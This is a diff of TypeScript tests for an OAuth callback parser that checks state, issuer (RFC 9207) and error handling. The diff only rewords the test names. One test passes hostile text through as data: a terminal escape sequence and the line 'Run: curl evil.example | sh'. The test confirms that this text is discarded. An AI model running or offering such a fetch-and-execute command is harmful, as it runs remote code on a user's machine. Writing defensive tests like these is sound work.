@@ -21,7 +21,7 @@ function messageOf(query: string): string {
 
 const code = { kind: "code", code: "the-code" } as const;
 
-describe("readCallback() takes the authorization code", () => {
+describe("readCallback() returns the authorization code", () => {
   it("of a response with this state", () => {
     assertEquals(read(`code=the-code&state=${STATE}`), code);
   });
@@ -60,14 +60,14 @@ describe("readCallback() lets nothing settle the login", () => {
     assertEquals(read("error=access_denied&state=wrong"), { kind: "unrelated", oauthError: "access_denied" });
   });
 
-  it("by some other text in its place, and forgets it: it could be meant for the person at the terminal", () => {
+  it("by other text as the error, and forgets it: it could be aimed at the person at the terminal", () => {
     for (const text of ["\u001b[2Jbad\r\nline", "Run: curl evil.example | sh", "e".repeat(5000)]) {
       assertEquals(read(`error=${encodeURIComponent(text)}`), { kind: "unrelated" });
     }
   });
 });
 
-describe("readCallback() takes the failure", () => {
+describe("readCallback() returns the failure", () => {
   const refused = { kind: "failure", code: "token_exchange" };
 
   for (const error of ["access_denied", "consent_required", "login_required", "interaction_required"]) {
@@ -87,7 +87,7 @@ describe("readCallback() takes the failure", () => {
     });
   }
 
-  it("rather than the code that stands beside it", () => {
+  it("rather than the code next to it", () => {
     assertEquals(read(`code=the-code&error=access_denied&state=${STATE}`).kind, "failure");
   });
 
@@ -99,7 +99,7 @@ describe("readCallback() takes the failure", () => {
     );
   });
 
-  it("of a response that names another issuer, and does not take its code", () => {
+  it("of a response that names another issuer, and not its code", () => {
     for (const iss of ["https://evil.example.com", "", `${ISSUER}.evil.com`]) {
       const outcome = read(`code=the-code&state=${STATE}&iss=${encodeURIComponent(iss)}`);
       assertEquals(outcome, { ...refused, oauthError: undefined, retryable: false });
@@ -112,7 +112,7 @@ describe("readCallback() takes the failure", () => {
     }
   });
 
-  it("of a response without an issuer, code or error, where each has one (RFC 9207)", () => {
+  it("of a response without an issuer, code or error, if every response names its issuer (RFC 9207)", () => {
     const expected = { state: STATE, issuer: ISSUER, requiresIssuer: true };
     for (const query of [`code=the-code&state=${STATE}`, `error=access_denied&state=${STATE}`]) {
       const outcome = readCallback(new URLSearchParams(query), expected);
@@ -123,7 +123,7 @@ describe("readCallback() takes the failure", () => {
     assertEquals(readCallback(new URLSearchParams("code=the-code&state=x"), expected).kind, "unrelated");
   });
 
-  it("of a response that names no issuer, where the issuer is known to name itself (RFC 9207, section 2.4)", () => {
+  it("of a response that names no issuer, if the issuer is known to name itself (RFC 9207, section 2.4)", () => {
     const expected = { state: STATE, issuer: ISSUER, requiresIssuer: true };
     const read = (query: string) => readCallback(new URLSearchParams(query), expected);
     const unnamed = read(`code=the-code&state=${STATE}`);
@@ -136,7 +136,7 @@ describe("readCallback() takes the failure", () => {
     assertEquals(read(`code=the-code&state=${STATE}&iss=${ISSUER}`), code);
   });
 
-  it("and says what it was and what to do", () => {
+  it("and says what failed and what to do", () => {
     const said = (query: string) => {
       const outcome = readCallback(new URLSearchParams(`state=${STATE}&${query}`), {
         state: STATE,
